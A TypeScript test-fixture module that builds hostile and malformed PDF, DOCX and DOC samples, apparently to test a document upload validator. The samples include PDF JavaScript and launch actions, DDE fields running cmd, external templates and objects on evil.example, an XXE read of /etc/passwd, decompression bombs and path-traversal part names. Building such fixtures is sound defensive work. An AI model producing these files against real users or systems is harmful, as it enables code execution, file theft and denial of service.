import { deflateSync } from 'node:zlib'
import { compoundOf, wordStream } from './compound.ts'
import { lockedPdf, packed, pdfOf, streamOf } from './pdf.ts'
import { bodyOf, docxOf, letterParts, relation, relationsOf, zipOf, type Part } from './zip.ts'

/** Documents that break a rule, each with the rule in a few words. None may ever be stored. */
export type Made = [about: string, bytes: Buffer]

const ACTS: [string, string][] = [
  ['JavaScript', '<< /S /JavaScript /JS (app.alert\\(1\\)) >>'],
  ['JavaScript in escapes', '<< /S /J#61va#53cript /#4a#53 (x) >>'],
  ['a script only by its key', '<< /S /Odd /JS 9 0 R >>'],
  ['JavaScript by reference', '[ /Odd /JavaScript ]'],
  ['a launch', '<< /S /Launch /F (cmd.exe) >>'],
  ['a launch in escapes', '<</S/#4c#61unch/F(x)>>'],
  ['a file inside', '<< /Type /EmbeddedFile >>'],
  ['a named file inside', '<< /Names << /EmbeddedFiles 9 0 R >> >>'],
  ['a file by its specification', '<< /Type /Filespec /EF << /F 9 0 R >> >>'],
  ['a film', '<< /Subtype /RichMedia >>'],
  ['a form with programs', '<< /AcroForm << /XFA 9 0 R >> >>'],
  ['a script behind a comment', '<< /S % now\n /JavaScript >>'],
]

const lines = (text: string) => Buffer.from(text, 'latin1')

const HIDING: [string, (act: string) => Buffer][] = [
  ['as an object', (act) => pdfOf([act])],
  ['in an object stream', (act) => pdfOf([packed(act)])],
  ['in an object stream in hex', (act) => pdfOf([packed(act, 'hex')])],
  ['in an object stream in base 85', (act) => pdfOf([packed(act, '85')])],
  ['in an object stream that is not packed', (act) => pdfOf([packed(act, 'none')])],
  ['in a locked object stream', (act) => lockedPdf(act)],
  ['inside another stream', (act) => pdfOf([streamOf('', lines(`\n30 0 obj\n${act}\nendobj\n`))])],
  ['deep down', (act) => pdfOf([`${'['.repeat(30)} ${act} ${']'.repeat(30)}`])],
  ['in the trailer', (act) => pdfOf([], `/Odd ${act}`)],
  ['in an object that breaks off', (act) => pdfOf([`<< /Odd ${act} ) >>`])],
  ['in an update', (act) => updated(act)],
  [
    'in an object stream of a length that lies',
    (act) => {
      const data = deflateSync(lines(`20 0 ${act}`))
      const head = '<< /Type /ObjStm /N 1 /First 5 /Filter /FlateDecode /Length 3 >>\nstream\n'
      return pdfOf([Buffer.concat([lines(head), data, lines('\nendstream')])])
    },
  ],
]

/** Objects added behind the end of a file, with a table and an end of their own. */
function updated(act: string): Buffer {
  const before = pdfOf()
  const object = lines(`9 0 obj\n${act}\nendobj\n`)
  const at = before.length + object.length
  const end = `xref\n9 1\n${String(before.length).padStart(10, '0')} 00000 n \ntrailer\n<< /Size 10 /Root 1 0 R >>\nstartxref\n${at}\n%%EOF\n`
  return Buffer.concat([before, object, lines(end)])
}

export const hostilePdfs = (): Made[] => [
  ...HIDING.flatMap(([where, hide]) =>
    ACTS.map(([what, act]): Made => [`PDF with ${what} ${where}`, hide(act)]),
  ),
  ['PDF with a password', lockedPdf('<< /Odd 1 >>', 'secret')],
  ['PDF behind other bytes', Buffer.concat([lines('GIF89a\n'), pdfOf()])],
  ['PDF with a ZIP behind it', Buffer.concat([pdfOf(), docxOf()])],
  ['PDF with a page of the web behind it', Buffer.concat([pdfOf(), lines('<script>x</script>')])],
  ['PDF without pages', lines('%PDF-1.7\nxref\n0 0\ntrailer\n<< >>\nstartxref\n9\n%%EOF\n')],
  ['PDF that is only a head', lines('%PDF-1.7\n')],
  ['PDF with brackets without end', pdfOf(['['.repeat(200_000)])],
  ['PDF with an object stream that blows up', pdfOf([bomb()])],
  ['PDF that begins again and again', pdfOf(['obj ('.repeat(100_000)])],
  ['PDF with data elsewhere', pdfOf([streamOf('/F (\\\\\\\\server\\\\x)', lines('x'))])],
  [
    'PDF that says twice how it is packed',
    pdfOf([streamOf('/N 1 /N 1 /First 5', lines('20 0 1'))]),
  ],
]

const bomb = () => {
  const packedTwice = deflateSync(deflateSync(Buffer.alloc(80_000_000, 32)))
  return streamOf('/Type /ObjStm /N 1 /First 5 /Filter [/FlateDecode /FlateDecode]', packedTwice)
}

const inBody = (inside: string): Part => ({ name: 'word/document.xml', content: bodyOf(inside) })
const related = (...relations: string[]): Part => ({
  name: 'word/_rels/document.xml.rels',
  content: relationsOf(...relations),
})
const field = (...pieces: string[]) =>
  `<w:r><w:fldChar w:fldCharType="begin"/></w:r>${pieces.map((piece) => `<w:r><w:instrText>${piece}</w:instrText></w:r>`).join('')}`
const OLE = compoundOf([{ name: '\u0001Ole10Native', content: Buffer.from('x') }])
const inert = { name: 'Workbook', content: Buffer.alloc(5_000, 'a') }
const OBJECTS: [string, Buffer][] = [
  ['was packed by another program', OLE],
  [
    'holds macros',
    compoundOf([inert, { name: 'dir', content: Buffer.from('x'), storage: '_VBA_PROJECT_CUR' }]),
  ],
  ['is locked', compoundOf([{ name: 'EncryptedPackage', content: Buffer.from('x') }])],
  ['goes round in circles', compoundOf([inert], true)],
  ['is cut off', compoundOf([inert]).subarray(0, 2_048)],
]
const XXE = '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>'
const withXxe = (content: string) => content.replace('?>', `?>${XXE}`)
const LAUGHS = '<!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]>'
const [typesPart, relsPart, bodyPart] = letterParts() as [Part, Part, Part]

const OUTSIDE: [string, string][] = [
  ['attachedTemplate', 'https://evil.example/t.dotm'],
  ['attachedTemplate', 'file:///c:/t.dotm'],
  ['attachedTemplate', '\\\\evil\\t.dotx'],
  ['image', 'https://evil.example/pixel.png'],
  ['image', '\\\\evil\\pixel.png'],
  ['oleObject', 'https://evil.example/x.hta'],
  ['frame', 'https://evil.example/'],
  ['subDocument', 'https://evil.example/x.docx'],
  ['hyperlink', 'javascript:alert(1)'],
  ['hyperlink', 'ms-msdt:/id%20PCW'],
  ['hyperlink', 'file://evil/share'],
  ['hyperlink', '\\\\evil\\share'],
]
const FIELDS: [string, string[]][] = [
  ['DDE', ['DDE "c:\\\\windows\\\\cmd" "/c calc"']],
  ['DDE in pieces', ['D', 'DE', 'AUTO "cmd"']],
  ['DDE in entities', ['&#68;DEAUTO "cmd"']],
  ['a picture from the web', ['INCLUDEPICTURE "https://evil.example/p.png"']],
  ['a text from a share', ['INCLUDETEXT "\\\\\\\\evil\\\\x.txt"']],
]

export const hostileDocx = (): Made[] => [
  ...[' ', 'External'].flatMap((mode) =>
    OUTSIDE.map(([kind, target]): Made => [
      `DOCX with ${kind} to ${target}, ${mode}`,
      docxOf([related(relation(kind, target.replaceAll('&', '&amp;'), mode.trim()))]),
    ]),
  ),
  ...FIELDS.map(([what, pieces]): Made => [
    `DOCX with ${what}`,
    docxOf([inBody(field(...pieces))]),
  ]),
  ['DOCX with DDE in a simple field', docxOf([inBody('<w:fldSimple w:instr="DDEAUTO x"/>')])],
  [
    'DOCX with DDE in its footnotes',
    docxOf([{ name: 'word/footnotes.xml', content: bodyOf(field('DDE x')) }]),
  ],
  [
    'DOCX with a drawing from the web',
    docxOf([inBody('<v:imagedata v:src="http://evil.example/x"/>')]),
  ],
  ['DOCX with macros', docxOf([{ name: 'word/vbaProject.bin', content: OLE }])],
  ['DOCX with macros of another name', docxOf([{ name: 'word/harmless.bin', content: OLE }])],
  ['DOCX with macros as a picture', docxOf([{ name: 'word/media/a.png', content: OLE }])],
  ['DOCX with a relation to macros', docxOf([related(relation('vbaProject', 'a.bin'))])],
  ['DOCX with a control', docxOf([{ name: 'word/activeX/activeX1.xml', content: bodyOf('') }])],
  ...OBJECTS.map(([what, content]): Made => [
    `DOCX with an object that ${what}`,
    docxOf([
      related(relation('oleObject', 'embeddings/a.bin')),
      { name: 'word/embeddings/a.bin', content },
    ]),
  ]),
  [
    'DOCX with an object from elsewhere',
    docxOf([related(relation('oleObject', 'http://evil.example/a.xls', 'External'))]),
  ],
  ['DOCX with a page inside', docxOf([{ name: 'word/a.html', content: '<script>x</script>' }])],
  ['DOCX with a program inside', docxOf([{ name: 'word/a.exe', content: 'MZ' }])],
  ['DOCX with a program as a picture', docxOf([{ name: 'word/media/a.png', content: 'MZ\x90' }])],
  ['DOCX with a ZIP inside', docxOf([{ name: 'word/media/a.png', content: docxOf() }])],
  [
    'DOCX with a workbook that loads',
    docxOf([
      {
        name: 'word/embeddings/a.xlsx',
        content: docxOf([related(relation('image', 'http://x/', 'External'))]),
      },
    ]),
  ],
  [
    'DOCX that is a macro document',
    zipOf(letterParts([], 'application/vnd.ms-word.document.macroEnabled.main+xml')),
  ],
  [
    'DOCX that is a template',
    zipOf(
      letterParts(
        [],
        'application/vnd.openxmlformats-officedocument.wordprocessingml.template.main+xml',
      ),
    ),
  ],
  [
    'DOCX that is a workbook',
    zipOf(
      letterParts([], 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml'),
    ),
  ],
  ...[typesPart, relsPart, bodyPart].flatMap((part): Made[] => [
    [
      `DOCX with XXE in ${part.name}`,
      docxOf([{ ...part, content: withXxe(part.content as string) }]),
    ],
    [
      `DOCX with laughs in ${part.name}`,
      docxOf([{ ...part, content: (part.content as string).replace('?>', `?>${LAUGHS}`) }]),
    ],
    [
      `DOCX with XXE in UTF-16 in ${part.name}`,
      docxOf([
        {
          ...part,
          content: Buffer.from(
            `\uFEFF${withXxe(part.content as string).replace('UTF-8', 'UTF-16')}`,
            'utf16le',
          ),
        },
      ]),
    ],
    [
      `DOCX in UTF-7 in ${part.name}`,
      docxOf([{ ...part, content: (part.content as string).replace('UTF-8', 'UTF-7') }]),
    ],
    [
      `DOCX cut in ${part.name}`,
      docxOf([{ ...part, content: (part.content as string).slice(0, -9) }]),
    ],
    [`DOCX without ${part.name}`, zipOf(letterParts().filter(({ name }) => name !== part.name))],
  ]),
  ...[
    '../../evil.xml',
    '/etc/cron.d/x.xml',
    'word\\..\\x.xml',
    'c:x.xml',
    'word/./x.xml',
    'WORD/DOCUMENT.XML',
    'a\0.xml',
    'word//x.xml',
  ].map((name): Made => [
    `DOCX with a part named ${JSON.stringify(name)}`,
    docxOf([{ name, content: bodyOf('') }]),
  ]),
  ['DOCX with the same part twice', zipOf([...letterParts(), bodyPart])],
  ['DOCX behind other bytes', Buffer.concat([Buffer.from('GIF89a'), docxOf()])],
  ['DOCX with bytes behind it', Buffer.concat([docxOf(), Buffer.from('<script>')])],
  ['DOCX with bytes before its table', spliced()],
  ['DOCX with a part that is locked', docxOf([], { 'word/document.xml': { flags: 1 } })],
  [
    'DOCX with a part of two names',
    docxOf([], { 'word/document.xml': { localName: 'word/docoment.xml' } }),
  ],
  ['DOCX with a part of an odd method', docxOf([], { 'word/document.xml': { method: 12 } })],
  ['DOCX with a part larger than it says', docxOf([], { 'word/document.xml': { size: 10 } })],
  ['DOCX with a part smaller than it says', docxOf([], { 'word/document.xml': { size: 900_000 } })],
  ['DOCX that blows up', docxOf([{ name: 'word/a.xml', content: Buffer.alloc(40_000_000, 32) }])],
  [
    'DOCX of too many parts',
    docxOf(Array.from({ length: 2_100 }, (_, n) => ({ name: `word/${n}.xml`, content: '' }))),
  ],
  ['DOCX without depth', docxOf([inBody('<w:p>'.repeat(5_000) + '</w:p>'.repeat(5_000))])],
]

function spliced(): Buffer {
  const bytes = docxOf()
  const at = bytes.readUInt32LE(bytes.length - 6)
  const hidden = Buffer.from(
    'MZ and more that nobody lists, longer than what a part may say behind it',
  )
  const out = Buffer.concat([bytes.subarray(0, at), hidden, bytes.subarray(at)])
  out.writeUInt32LE(at + hidden.length, out.length - 6)
  return out
}

const some = Buffer.from('x')
const stored = (name: string, storage?: string) => ({
  name,
  content: some,
  ...(storage && { storage }),
})

export const hostileDocs = (): Made[] => [
  ['DOC with macros', compoundOf([wordStream(), stored('VBA', 'Macros')])],
  ['DOC with macros in small letters', compoundOf([wordStream(), stored('dir', 'vba')])],
  ['DOC with a project', compoundOf([wordStream(), stored('_VBA_PROJECT')])],
  ['DOC with a project of a workbook', compoundOf([wordStream(), stored('x', '_VBA_PROJECT_CUR')])],
  ['DOC with a packed file', compoundOf([wordStream(), stored('\u0001Ole10Native', 'ObjectPool')])],
  ['DOC that is locked', compoundOf([wordStream('x', 0x0100)])],
  ['DOC that is obscured', compoundOf([wordStream('x', 0x8000)])],
  ['DOC that is a template', compoundOf([wordStream('x', 0x0001)])],
  ['DOC that is a locked DOCX', compoundOf([stored('EncryptedPackage'), stored('EncryptionInfo')])],
  ['DOC that is a workbook', compoundOf([stored('Workbook')])],
  ['DOC with its text elsewhere', compoundOf([{ ...wordStream(), storage: 'Inner' }])],
  ['DOC with another text', compoundOf([{ name: 'WordDocument', content: some }])],
  ['DOC that starts a program', compoundOf([wordStream('\x13 DDEAUTO c:\\\\cmd \x14')])],
  ['DOC that starts one in wide letters', compoundOf([wordStream('\x13\0 \0D\0D\0E\0 \0')])],
  ['DOC that runs in circles', compoundOf([wordStream()], true)],
]
